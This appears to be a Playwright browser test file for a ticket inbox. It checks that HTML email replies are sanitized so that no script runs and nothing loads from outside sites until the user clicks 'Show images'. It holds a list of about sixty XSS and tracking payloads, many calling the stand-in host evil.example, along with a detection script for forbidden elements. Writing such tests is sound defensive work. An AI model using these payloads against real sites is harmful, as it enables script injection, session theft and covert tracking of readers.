"""Letters that want to run something, or to tell somebody that they are read: shown, none of them can."""

import pytest
from playwright.sync_api import Request, Route, expect

from tests.actions.tickets.front_desk import inserted
from tests.browser.conftest import OpenWindow
from tests.browser.window import Scheme
from tests.wire.rest.test_writing import posted
from tests.world import World

EVIL = "http://evil.example"
LETTERS = (
    "<script>pwn()</script>",
    f'<script src="{EVIL}/x.js"></script>',
    "<script/x>pwn()</script>",
    "<scr<script>ipt>pwn()</script>",
    '<img src="x" onerror="pwn()">',
    "<img src=x onerror=pwn()//",
    '<img """><script>pwn()</script>">',
    "<img src=x:alert onerror=eval(src)>",
    '<body onload="pwn()">',
    "<svg onload=pwn()></svg>",
    "<svg><script>pwn()</script></svg>",
    '<svg><a xlink:href="javascript:pwn()"><text>x</text></a></svg>',
    '<svg><animate onbegin="pwn()" attributeName="x" dur="1s"></svg>',
    f'<svg><image href="{EVIL}/svg.png"/></svg>',
    f'<svg><use href="{EVIL}/u.svg#x"/></svg>',
    '<math><mtext><mglyph><style><img src onerror="pwn()"></style></mglyph></mtext></math>',
    '<noscript><p title="</noscript><img src=x onerror=pwn()>"></noscript>',
    '<iframe src="javascript:parent.pwn()"></iframe>',
    f'<iframe src="{EVIL}/frame"></iframe>',
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    f'<object data="{EVIL}/o"></object>',
    f'<embed src="{EVIL}/e">',
    '<object data="data:text/html,<script>parent.pwn()</script>"></object>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
    '<meta http-equiv="refresh" content="0;url=javascript:pwn()">',
    f'<base href="{EVIL}/"><img src="relative.png">',
    f'<link rel="stylesheet" href="{EVIL}/s.css">',
    f'<link rel="prefetch" href="{EVIL}/prefetch"><link rel="dns-prefetch" href="//evil.example">',
    f"<style>@import url({EVIL}/i.css); body {{ background: url({EVIL}/b.png) }}</style>",
    f'<p style="background:url({EVIL}/p.png)">x</p>',
    '<p style="width:expression(pwn());-moz-binding:url(x)">x</p>',
    f'<table background="{EVIL}/t.png"><tr><td background="{EVIL}/d.png">x</td></tr></table>',
    f'<form action="{EVIL}/f"><input name="a" autofocus onfocus="pwn()"><button id="go">Go</button></form>',
    f'<button form="x" formaction="{EVIL}/f">Go</button>',
    '<a href="javascript:pwn()">link</a>',
    '<a href=" &#x6A;avascript:pwn()">link</a>',
    '<a href="java\nscript:pwn()">link</a>',
    '<a href="data:text/html,<script>opener.pwn()</script>">link</a>',
    '<a href="vbscript:pwn()">link</a>',
    f'<a href="https://a.example" ping="{EVIL}/ping">link</a>',
    f'<img src="{EVIL}/pixel.gif" width="1" height="1">',
    f'<img srcset="{EVIL}/1.png 1x, {EVIL}/2.png 2x">',
    f'<picture><source srcset="{EVIL}/s.png"><img></picture>',
    f'<video src="{EVIL}/v" poster="{EVIL}/poster.png" autoplay onplay="pwn()"></video>',
    f'<audio src="{EVIL}/a" autoplay></audio>',
    '<video><source onerror="pwn()"></video>',
    f'<input type="image" src="{EVIL}/input.png">',
    '<details open ontoggle="pwn()"><summary>x</summary></details>',
    '<marquee onstart="pwn()">x</marquee>',
    '<select autofocus onfocus="pwn()"><option>x</select>',
    "<textarea autofocus onfocus=pwn()></textarea>",
    '<div id="app" class="dialog" onclick="pwn()" onmouseover="pwn()">x</div>',
    "<template><script>pwn()</script></template>",
    "<!--<img src='--><img src=x onerror=pwn()>-->",
    "<![CDATA[<script>pwn()</script>]]>",
    "<xml><script>pwn()</script></xml>",
    '<img src="//evil.example/protocol-relative.gif">',
    '<img src="/logout"><a href="/logout">out</a>',
    "<p>&lt;script&gt;pwn()&lt;/script&gt;</p><b>x</b>",
    "<plaintext><script>pwn()</script>",
)


def test_there_are_many() -> None:
    assert len(LETTERS) >= 40


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nothing_runs_and_nobody_is_told(open_window: OpenWindow, world: World, scheme: Scheme) -> None:
    """All letters on one ticket, each in a frame of its own, each opened and clicked into."""
    ticket = inserted(world, subject="<img src=x onerror=pwn()>", plain="<script>pwn()</script>").id
    for place, html in enumerate(LETTERS):
        posted(world, f"/tickets/{ticket}/replies", html=f"<p><b>Letter {place}</b></p>{html}", text="x")
    window = open_window(world.alice, "/inbox/open", scheme=scheme)
    page = window.page
    asked: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((world.url, "data:image/")):
            asked.append(request.url)

    window.context.on("request", note)
    ids = [
        one["id"]
        for one in world.rest("GET", f"/tickets/{ticket}/messages?kind=external&limit=200").json()["data"]
        if one["direction"] == "out"
    ]
    assert len(ids) == len(LETTERS)
    page.evaluate(FRAMES, [[ticket, one] for one in ids])
    for place, one in enumerate(ids):
        frame = page.frame_locator(f"#letter-{one}")
        expect(frame.get_by_text(f"Letter {place}", exact=True)).to_be_visible()
    assert page.evaluate(FORBIDDEN) == []
    assert asked == []
    page.goto(f"/inbox/open/{ticket}")
    expect(page.frame_locator("iframe").last.get_by_text(f"Letter {len(LETTERS) - 1}")).to_be_visible()
    assert asked == []


FRAMES = """async all => {
    const framed = ([ticket, id]) => new Promise(done => {
        const frame = document.createElement('iframe')
        frame.id = `letter-${id}`
        frame.sandbox = 'allow-same-origin allow-popups allow-popups-to-escape-sandbox'
        frame.onload = done
        frame.src = `/letters/${ticket}/${id}`
        document.body.append(frame)
    })
    for (const one of all) await framed(one)
}"""
FORBIDDEN = """() => [...document.querySelectorAll('iframe')].flatMap(frame => {
    const page = frame.contentDocument
    const kinds = 'script, style, link, meta, form, iframe, object, embed, svg, math, [style]'
    const found = [...page.body.querySelectorAll(kinds)]
    const has = one => [...one.attributes].some(a => a.name.startsWith('on'))
    const handled = [...page.querySelectorAll('*')].filter(has)
    const led = [...page.links].filter(one => !/^(https?|mailto|tel):/.test(one.protocol))
    return [...found, ...handled, ...led].map(one => `${frame.id}: ${one.outerHTML}`)
})"""


def test_an_image_from_elsewhere_is_fetched_only_when_it_is_asked_for(
    open_window: OpenWindow, world: World
) -> None:
    ticket = inserted(world, subject="News", plain="Look").id
    letter = '<p><b>Look</b></p><img src="http://pictures.example/1.png" alt="A picture">'
    posted(world, f"/tickets/{ticket}/replies", html=letter)
    window = open_window(world.alice, "/inbox/open")
    asked: list[str] = []
    pixel = "<svg xmlns='http://www.w3.org/2000/svg'/>"

    def answer(route: Route, request: Request) -> None:
        asked.append(request.headers.get("referer", "none"))
        route.fulfill(content_type="image/svg+xml", body=pixel)

    window.context.route("http://pictures.example/**", answer)
    page = window.page
    page.goto(f"/inbox/open/{ticket}")
    expect(page.frame_locator("iframe").get_by_text("Look")).to_be_visible()
    assert asked == []
    page.get_by_role("button", name="Show images").click()
    expect(page.frame_locator("iframe").get_by_role("img", name="A picture")).to_have_attribute(
        "src", "http://pictures.example/1.png"
    )
    expect(page.get_by_role("button", name="Show images")).to_be_hidden()
    assert asked == ["none"]
